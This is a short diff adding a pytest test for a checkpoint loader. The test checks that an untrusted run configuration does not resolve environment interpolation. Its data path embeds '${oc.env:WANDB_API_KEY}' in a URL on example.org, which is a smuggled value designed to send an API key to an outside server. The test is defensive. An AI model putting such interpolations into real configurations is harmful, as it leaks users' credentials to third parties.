@@ -107,3 +107,14 @@ def test_weights_that_do_not_fit_their_configuration_are_refused(tmp_path: Path)
     checkpoint.state.config["model"]["num_layers"] = 2
     with pytest.raises(CheckpointError, match=r"layers\.1\."):
         restored(checkpoint, CPU)
+
+
+def test_configuration_of_a_stranger_reads_nothing_from_the_environment(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("WANDB_API_KEY", "secret")
+    address = "https://example.org/${oc.env:WANDB_API_KEY}.jsonl"  # its server would be told
+    save_run(tmp_path, kind="hf", path=address, hf_name="json")
+    checkpoint = open_checkpoint(tmp_path)
+    assert checkpoint.config.data.path == address
+    assert evaluation_config(checkpoint, ["seq_len=8"], "eval").data.path == address
